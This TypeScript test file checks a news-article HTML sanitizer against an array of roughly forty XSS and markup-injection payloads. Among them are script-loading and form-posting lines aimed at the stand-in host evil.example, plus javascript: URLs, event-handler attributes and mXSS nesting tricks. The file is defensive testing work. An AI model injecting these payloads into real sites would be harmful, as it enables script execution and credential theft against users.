import assert from 'node:assert/strict';
import { test } from 'node:test';
import { NEWS_DEPTH_MAX, NEWS_ELEMENTS } from '@assay/contract/api/news.ts';
import fc from 'fast-check';
import { sanitizeArticleHtml } from './sanitize-html.ts';

const IMAGE = '/api/news/images/018f0000-0000-7000-8000-000000000000';
const html = (given: string) => sanitizeArticleHtml(given).html;

test("an editor's markup is kept, and equivalent elements are unified", () => {
  const kept = [
    '<h2>A</h2><h3>B</h3><h4>C</h4><p>one<br />two <strong>b</strong> <em>i</em> <u>u</u> <s>s</s> <code>c</code></p>',
    '<ul><li><p>a</p></li></ul><ol start="3"><li><p>b</p></li></ol><blockquote><p>q</p></blockquote><pre>x</pre><hr />',
    '<table><tbody><tr><th colspan="2"><p>h</p></th></tr><tr><td>1</td><td rowspan="2">2</td></tr></tbody></table>',
    `<img src="${IMAGE}" alt="A &quot;chart&quot;" width="800" height="600" />`,
    '<p><a href="https://example.com/a?b=c&amp;d">out</a> <a href="mailto:a@b.example">m</a> <a href="/scan">in</a></p>',
  ];
  for (const text of kept) assert.equal(html(text), text);
  assert.equal(
    html('<h1>T</h1><div>a <b>b</b> <i>i</i> <del>d</del></div>'),
    '<h2>T</h2><p>a <strong>b</strong> <em>i</em> <s>d</s></p>',
  );
  assert.equal(html('<p class="x" style="color:red" onclick="x()" data-a="1" id="main">a</p>'), '<p>a</p>');
  assert.deepEqual(sanitizeArticleHtml(`<p>a</p><p>b &amp; c</p><img src="${IMAGE}">`), {
    html: `<p>a</p><p>b &amp; c</p><img src="${IMAGE}" />`,
    text: 'a b & c',
    images: ['018f0000-0000-7000-8000-000000000000'],
  });
});

/** Markup that has run scripts, loaded things or left its place in one sanitizer or browser or another. */
const HOSTILE = [
  '<script>alert(1)</script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<script\x20type="text/javascript">javascript:alert(1);</script>',
  '<img src=x onerror=alert(1)>',
  '<img src="x` `<script>alert(1)</script>"` `>',
  `<img src="${IMAGE}" onerror="alert(1)" srcset="//evil.example/a 1x" style="x:expression(alert(1))">`,
  '<img src="//evil.example/track.gif"><img src="https://evil.example/track.gif"><img src="data:image/svg+xml,<svg onload=alert(1)>">',
  `<img src="${IMAGE}/../../../userLogout"><img src=" ${IMAGE}"><img src="${IMAGE}?x"><img src="http://evil.example${IMAGE}">`,
  '<svg><script>alert(1)</script></svg><svg/onload=alert(1)><svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<iframe src="javascript:alert(1)"></iframe><iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)"><applet code=x></applet>',
  '<a href="javascript:alert(1)">x</a><a href="JaVaScRiPt:alert(1)">x</a><a href="java&#10;script:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a><a href=" \x01javascript:alert(1)">x</a><a href="javascript&colon;alert(1)">x</a>',
  '<a href="vbscript:x">x</a><a href="data:text/html,<script>alert(1)</script>">x</a><a href="blob:x">x</a><a href="file:///etc/passwd">x</a>',
  '<a href="//evil.example">x</a><a href="/\\evil.example">x</a><a href="/\t/evil.example">x</a><a href="\\\\evil.example">x</a>',
  '<a href="https://ok.example" target="_blank" ping="//evil.example" onmouseover=alert(1)>x</a>',
  '<style>@import "//evil.example/x.css"; body{background:url(javascript:alert(1))}</style>',
  '<link rel=stylesheet href=//evil.example/x.css><meta http-equiv=refresh content="0;url=javascript:alert(1)"><base href="//evil.example/">',
  '<form action="//evil.example"><input name=password><button formaction="javascript:alert(1)">x</button></form>',
  '<textarea><img src=x onerror=alert(1)></textarea><title><img src=x onerror=alert(1)></title><xmp><img src=x onerror=alert(1)></xmp>',
  '<template><img src=x onerror=alert(1)></template><noembed><img src=x onerror=alert(1)></noembed><plaintext><img src=x onerror=alert(1)>',
  '<video><source onerror="alert(1)"></video><audio src=x onerror=alert(1)></audio><details open ontoggle=alert(1)>',
  '<body onload=alert(1)><html onclick=alert(1)><frameset onload=alert(1)><marquee onstart=alert(1)>x</marquee>',
  '<!--<img src="--><img src=x onerror=alert(1)//">--><![CDATA[<img src=x onerror=alert(1)>]]><?xml version="1.0"?><!DOCTYPE x [<!ENTITY y "z">]>',
  '<p onclick=alert(1)//>x</p><p/onclick=alert(1)>x</p><p\nonclick\n=\nalert(1)>x</p><p "onclick=alert(1)">x</p>',
  '<b <script>alert(1)</script>0<b>x</b><<a href="javascript:alert(1)">x</a>',
  '<table background="javascript:alert(1)"><td background="javascript:alert(1)" style="x" colspan="1;alert(1)" rowspan="-1">x</table>',
  '<ol start="1 onclick=alert(1)"><li value="javascript:1">x</li></ol>',
  '<p>\u0000<scr\u0000ipt>alert(1)</scr\u0000ipt></p>',
  '<img src="data:text/html;base64,PHNjcmlwdD4=">&lt;script&gt;alert(1)&lt;/script&gt;',
  '<p>\u202eright to left</p><p title="</p><script>alert(1)</script>">x',
  '<a name="main" id="root">clobber</a><img name="cookie" id="body" src="x">',
  '<custom-element onclick=alert(1)><slot></slot></custom-element><portal src="javascript:alert(1)"></portal>',
];

/** Every tag of the result is on the list and has only its allowed attributes, with harmless values. */
function faultsOf(result: string): string[] {
  const faults: string[] = [];
  const tag = /<(\/?)([a-z0-9-]+)((?:\s+[a-z-]+="[^"<>]*")*)\s*(\/?)>/g;
  const rest = result.replace(tag, (whole, _close, name: string, attributes: string) => {
    const allowed = (NEWS_ELEMENTS as Record<string, readonly string[]>)[name];
    if (!allowed) faults.push(whole);
    for (const [, attribute, value] of attributes.matchAll(/([a-z-]+)="([^"]*)"/g)) {
      if (!allowed?.includes(attribute!)) faults.push(whole);
      if (attribute === 'href' && !/^(https?:\/\/|mailto:|\/(?![/\\]))\S*$/i.test(value!)) faults.push(whole);
      if (attribute === 'src' && value !== IMAGE) faults.push(whole);
      if (!['href', 'src', 'alt'].includes(attribute!) && !/^\d{1,4}$/.test(value!)) faults.push(whole);
    }
    return '';
  });
  if (/[<>]/.test(rest)) faults.push(rest);
  return faults;
}

test('hostile markup leaves only allowed elements with harmless values', () => {
  for (const given of HOSTILE) {
    for (const text of [
      given,
      `<p>${given}</p>`,
      `<table><tr><td>${given}`,
      `<ul><li>${given}</li></ul>`,
      given.repeat(3),
    ]) {
      assert.deepEqual(faultsOf(html(text)), [], text);
    }
  }
});

test('any combination of such pieces becomes clean, and the same when sanitized again', () => {
  const piece = fc.oneof(
    fc.constantFrom(...HOSTILE),
    fc.constantFrom(
      '<',
      '>',
      '"',
      "'",
      '&',
      '<!--',
      '-->',
      '</',
      '/>',
      '<p>',
      '</p>',
      '<a href="',
      '<img src="',
      '&#x3c;',
      '\u0000',
    ),
    fc.constantFrom(...Object.keys(NEWS_ELEMENTS).flatMap((name) => [`<${name}>`, `</${name}>`, `<${name} `])),
    fc.string({ maxLength: 12, unit: 'grapheme' }),
  );
  fc.assert(
    fc.property(fc.array(piece, { maxLength: 12 }), (pieces) => {
      const once = html(pieces.join(''));
      assert.deepEqual(faultsOf(once), []);
      assert.equal(html(once), once);
    }),
    { numRuns: 2000 },
  );
});

test('elements named like members of Object.prototype lose their tags', () => {
  for (const name of ['constructor', 'toString', 'hasOwnProperty']) {
    assert.equal(html(`<p>a<${name} x="1">b</${name}></p>`), '<p>ab</p>', name);
  }
});

test('images that were never uploaded are removed from the text', () => {
  const other = IMAGE.replace('018f', '018e');
  const { html: kept, images } = sanitizeArticleHtml(
    `<p>a</p><img src="${IMAGE}"><img src="${other}">`,
    new Set([IMAGE.slice(17)]),
  );
  assert.deepEqual([kept, images], [`<p>a</p><img src="${IMAGE}" />`, [IMAGE.slice(17)]]);
});

test('endlessly nested markup is cut at a depth that every browser can render', () => {
  const deep = html(`${'<blockquote>'.repeat(5_000)}x`);
  assert.equal(deep.match(/<blockquote>/g)?.length ?? 0, NEWS_DEPTH_MAX);
  assert.ok(deep.includes('x'));
});
